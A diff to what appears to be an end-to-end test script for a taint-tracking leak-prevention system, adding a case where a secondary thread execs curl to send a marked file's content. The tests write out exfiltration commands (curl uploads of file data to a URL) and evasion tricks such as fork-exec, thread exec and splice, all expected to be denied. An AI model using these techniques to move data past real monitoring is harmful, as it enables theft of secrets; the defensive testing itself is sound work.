@@ -113,6 +113,11 @@ grep -q "$MARKER" "$shm/mapped.bin" || fail "shared-mmap: the mapped file does n
 denied shared-mmap "$C -T '$shm/mapped.bin' $URL"
 # The shell itself reads (the builtin read), then forks and execs curl, which read nothing.
 denied fork-exec "IFS= read -r line <'$f'; bash -c 'exec $C --data-binary fork-exec-DATA $URL'"
+# An exec from a thread that is not the process's leader (round 17): the exec'ing thread
+# becomes the leader and the old one, where the taint sat, is released. python3 reads the file
+# and a second thread execs curl with the content as its argument; before, curl sent it.
+install -m 0644 "$E2E_SRCDIR/guest/thread-exec.py" "$E2E_SCRATCH/thread-exec.py"
+denied thread-exec "python3 '$E2E_SCRATCH/thread-exec.py' '$f' $CURL -s -m 10 -o /dev/null -H Expect: --data-binary @ $URL"
 # splice(2) moves data without read() or write(): a file spliced into a pipe marks the pipe
 # (the reader is tainted), a splice from a marked pipe taints the splicer before its write to a
 # socket is checked, so an untainted process that connected first cannot splice the content out.
